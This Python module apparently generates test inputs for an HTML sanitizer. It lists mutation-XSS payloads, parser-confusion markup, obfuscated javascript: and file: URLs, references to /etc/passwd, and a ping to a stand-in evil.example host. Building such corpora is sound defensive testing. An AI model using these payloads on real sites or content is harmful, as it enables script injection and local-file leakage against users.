"""HTML that wants to get out, of families that ``seeds.jsonl`` has few of: what parsers understand in two ways, what CSS
and old attributes ask for, addresses in disguise, entities, encodings, Markdown. Some by hand, most by crossing lists.
"""

from __future__ import annotations

from itertools import product

_BAD = "<img src=x onerror=alert(1)>"
_LEAD = "<a href='javascript:alert(1)'>x</a>"

MUTATING = (
    f"<noscript><p title=\"</noscript>{_BAD}\">",
    f"<noscript><style></noscript>{_BAD}</style>",
    f"<select><template><style><!--</select>{_BAD}--></style>",
    f"<select><iframe></select>{_BAD}</iframe>",
    f"<svg></p><style><a id=\"</style>{_BAD}\">",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;{_BAD}\">",
    f"<math><mtext><table><mglyph><style><math>{_BAD}",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style>{_BAD}\">",
    f"<math><annotation-xml encoding='text/html'><style>{_BAD}</style></annotation-xml>",
    f"<svg><foreignObject><p><style><![CDATA[</style>{_BAD}]]>",
    f"<svg><desc><noembed></desc>{_BAD}</noembed>",
    f"<svg><title><xmp></title>{_BAD}</xmp>",
    f"<svg><![CDATA[><{_BAD}]]>",
    f"<math><![CDATA[</math>{_BAD}]]>",
    f"<!--><p>{_BAD}-->",
    f"<!---><p>{_BAD}-->",
    f"<!-- --!>{_BAD}-->",
    f"<!--<!-->{_BAD}<!--->",
    f"<? >{_BAD}?>",
    f"<!{_BAD}>",
    f"</ {_BAD}>",
    f"<%{_BAD}%>",
    f"<plaintext>{_BAD}",
    f"<p><plaintext></plaintext>{_BAD}",
    f"<xmp><p title='</xmp>{_BAD}'>",
    f"<listing>&lt;/listing&gt;{_BAD}",
    f"<textarea><a title='</textarea>{_BAD}'>",
    f"<title><b title='</title>{_BAD}'>",
    f"<style><b title='</style>{_BAD}'>",
    f"<script><!--<script></script>{_BAD}--></script>",
    f"<iframe><b title='</iframe>{_BAD}'>",
    f"<noframes><b title='</noframes>{_BAD}'>",
    f"<noembed><b title='</noembed>{_BAD}'>",
    f"<template><b></template>{_BAD}</b>",
    f"<table><colgroup>{_BAD}<col></colgroup>{_LEAD}<td>",
    f"<table><tbody><select><tr>{_BAD}",
    f"<table><caption><table>{_BAD}</caption>",
    f"<ruby><rb><rt>{_BAD}<rtc>{_LEAD}",
    f"<button><p><button>{_BAD}",
    f"<nobr><nobr>{_BAD}</nobr>",
    f"<a><table><a href='vbscript:x'>{_BAD}</table></a>",
    f"<b><p></b><i>{_BAD}</p></i>",
    f"<font color='\"><{_BAD}'>x</font>",
    f"<p title='&lt;/p&gt;{_BAD}'>x</p>",
    f"<a href='https://e.org/' title='\"{_BAD}'>x</a>",
    f"<a href=\"https://e.org/'{_BAD}\">x</a>",
    f"<a href=https://e.org/`{_BAD}>x</a>",
    f"<img alt='`{_BAD}' src='https://e.org/a.png'>",
    f"<img src='https://e.org/\"{_BAD}.png'>",
    f"<pre>\n\n\n{_BAD}</pre><pre><listing>\n{_LEAD}",
    f"<code class='language-\"{_BAD}'>a</code>",
    "<code class='language-html' class='x'>&lt;img src=x onerror=alert(1)&gt;</code>",
    f"<td colspan='1\"{_BAD}'>x</td>",
    f"<ol start='1\"{_BAD}'><li>x</ol>",
    f"<p dir='rtl\"{_BAD}'>x</p>",
    "<svg/onload=alert(1)><image href=x onerror=alert(1)>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>x",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<math href='javascript:alert(1)'>x</math><maction actiontype=statusline xlink:href='javascript:x'>y",
    "&lt;script&gt;alert(1)&lt;/script&gt;&amp;lt;img src=x&amp;gt;",
    "<<b>img src=x onerror=alert(1)//</b>",
    "<img/src=x/onerror=alert(1)/><img\x0csrc=x\x0conerror=alert(1)><img\x00src=x>",
    "<ımg src=x onerror=alert(1)><ſcript>alert(1)</ſcript><a hreſ='javascript:x'>",
    "\uff1cimg src=x onerror=alert(1)\uff1e<\u200bscript>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<body background='file:///etc/hostname' onload=alert(1)><p>x",
    "<base href='file:///etc/'><img src='hostname'><a href='passwd'>x</a>",
    "<base href='javascript:/a/-alert(1)///////'><a href='../lol/safari.html'>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'><meta name=referrer content=unsafe-url>",
    "<meta http-equiv='Content-Security-Policy' content=\"default-src *\"><meta charset=utf-7>",
    "<link rel=stylesheet href='file:///etc/hostname'><link rel='prefetch dns-prefetch preconnect' href='//e.org'>",
    "<style>@import url(file:///etc/hostname);@font-face{src:url(file:///etc/hostname)}p{background:url(/etc/hosts)}</style>x",
    "<style>li{list-style-image:url(/etc/hostname)}</style><ul><li>x</ul><table background='/etc/hostname'><td>y",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><portal src='https://e.org'></portal><fencedframe src=/>",
    "<object data='file:///etc/hostname'><embed src='/etc/hostname'><applet archive=a code=b codebase='file:///'>",
    "<video poster='file:///etc/hostname' src=/etc/hostname><source srcset=/etc/hostname><track src=/etc/hosts>",
    "<picture><source srcset='file:///etc/hostname 1x'><img srcset='/etc/hostname 2x' src='qrc:/a.png'></picture>",
    "<img usemap='#m' src='https://e.org/a.png'><map name=m><area href='javascript:alert(1)' shape=default>",
    "<a ping='https://evil.example/' href='https://e.org/' attributionsrc target=_blank download='../../x'>x</a>",
    "<form action='javascript:alert(1)'><button formaction='file:///etc/hostname'>x</button><input type=image src=/etc/hosts>",
    "<details ontoggle=alert(1) open><summary>x</summary></details><dialog open onclose=alert(1)>y</dialog>",
    "<x-y is=z slot=a part=b exportparts=c nonce=d popover popovertarget=e inert anchor=f>words</x-y>",
    "<p contenteditable autofocus onfocus=alert(1) tabindex=1 accesskey=x draggable=true>x</p>",
    "<marquee onstart=alert(1) behavior='url(#default#time2)'>x</marquee><bgsound src=/etc/hosts><isindex action=j>",
    f"<xml id=x><i><b>{_BAD}</b></i></xml><span datasrc=#x datafld=b dataformatas=html></span>",
    f"<comment>{_BAD}</comment><!--[if gte IE 4]>{_BAD}<![endif]-->",
    "<a href='https://e.org/' style='position:fixed;inset:0;z-index:9999;opacity:0'>all of the window</a>",
    "<p id=reading name=getElementById class='chips'>x<a class='quiet' href='label:1'>y</a><a name='top' href='picture:0'>z</a>",
    "<p class='k' style='-qt-user-state:1;-qt-block-indent:999;-qt-paragraph-type:empty;-qt-table-type:root'>x</p>",
    f"<!--StartFragment-->{_BAD}<!--EndFragment--><table style='-qt-table-type: root'><td>x",
    "<a href='#\" onclick=\"alert(1)'>x</a><a href='#javascript:alert(1)'>y</a><a href='# javascript:x'>z</a>",
    "[x](javascript:alert(1)) ![y](file:///etc/hostname) <javascript:alert(1)> [z]: javascript:alert(1)",
    "[x](<java\nscript:alert(1)>) [y](https://e.org 'title\" onclick=alert(1)') ![z](x \"y\" onerror=alert(1))",
    f"```html\n</code></pre>{_BAD}\n```\n~~~\n{_BAD}",
    f"`</code>{_BAD}` ``a`</code>{_BAD}`` \\<b> &#96;{_BAD}",
    "[[file:///etc/hostname]] ![[/etc/passwd]] {{< ref >}} <%= x %> ${x} {{x}}",
    f"---\ntitle: {_BAD}\nlink: javascript:alert(1)\n---\n{_BAD}",
)  # fmt: skip

_SCHEMES = (
    "javascript", "vbscript", "livescript", "data", "file", "qrc", "blob", "filesystem", "jar", "view-source", "about",
    "chrome", "resource", "ms-word", "ms-settings", "ms-msdt", "search-ms", "intent", "steam", "vscode", "shell", "cid",
    "mid", "wyciwyg", "ws", "ftp", "sftp", "smb", "nfs", "dav", "ldap", "gopher", "dict", "telnet", "sms", "facetime",
    "skype", "feed", "desktop-reader", "label", "picture", "mk", "res", "mhtml", "ed2k", "magnet", "geo", "xmpp", "irc",
    "webcal", "app", "image", "memory", "qt", "assets", "content",
)  # fmt: skip
_WRITTEN = (
    "{}:alert(1)", "{}://e.org/a.png", "{}:///etc/hostname", " {}:x", "\x01{}:x", "{}\t:x", "{}&colon;x", "{}&#58x",
    "{}&Tab;&colon;x", "{}%3Ax", "{}\u200b:x", "{}\uff1ax", "{}\\:x", "&#x0{}:x", "{}:&NewLine;x", "{}:\u202ex",
)  # fmt: skip
_HOSTS = (
    "//evil.example/a.png", "///etc/hostname", "////e.org/a", "\\\\e.org\\a.png", "/\\e.org/a", "\\/e.org/a", "http:\\\\e.org\\a",
    "http:/etc/hostname", "http:etc/hostname", "https:///etc/hostname", "http://e.org:80:80/a", "http://a@b@e.org/a.png",
    "http://e.org\\@evil.example/", "http://e.org#@evil.example/", "http://e.org%2f@evil.example/", "http://[e.org]/a.png",
    "http://e.org\x00.evil.example/", "http://e\u3002org/a", "http://ｅ.org/a.png", "http://e.org\uff0fa@evil.example/",
    "http://\u202egro.e/", "http://xn--e1awd7f.example/", "http://e.org/\u202egpj.exe", "http://e.org/a.png\u2028x",
    "?a.png", "#a", ".", "..", "./a.png", "~/a.png", "C:\\a.png", "C:/a.png", "c|/a.png", "%2e%2e/a.png", ":a.png", ":/a.png",
    "http://", "http:///", "https://?", "https://#", "http://:80/", "http://@/", "http://e.org:99999/a", "http://%00/a",
    "mailto:", "mailto:a@e.org?attach=/etc/hostname", "mailto:a@e.org%0abcc:b@e.org", "mailto:?body=x", "mailto://e.org/",
    "mailto:a@e.org?subject=x&attachment=file:///etc/hostname", "MAILTO:a@e.org\"onclick=x", "https://user:pass@e.org/a.png",
    "https://e.org/?utm_source=x&fbclid=y#utm_medium=z", "https://pixel.wp.com/g.gif", "https://www.google-analytics.com/c",
    "data:image/png;base64,iVBORw0KGgo=", "data:image/svg+xml;utf8,<svg onload=alert(1)>", "data:,x", "data:image/bmp;base64,Qk0=",
    "data:text/html;charset=utf-7,+ADw-script+AD4-", "DATA:image/gif;base64,R0lGODlhAQABAAAAACw=", "data:image/png,%89PNG",
)  # fmt: skip
_HOLDERS = (
    '<a href="{}">x</a>',
    '<img src="{}">',
    "<img src='{}' width=30 alt=x>",
    "<p>[a]({})</p>",
    "<table background='{}'><td>x",
)


def hidden() -> list[str]:
    """Schemes and hosts in their disguises, in what could ask for them or lead there."""
    addresses = [way.format(scheme) for way, scheme in product(_WRITTEN, _SCHEMES)]
    found = [_HOLDERS[n % len(_HOLDERS)].replace("{}", address) for n, address in enumerate(addresses)]
    return [*found, *(holder.replace("{}", address) for holder, address in product(_HOLDERS, _HOSTS))]


def all_of() -> list[str]:
    """All of them."""
    return [*MUTATING, *hidden()]
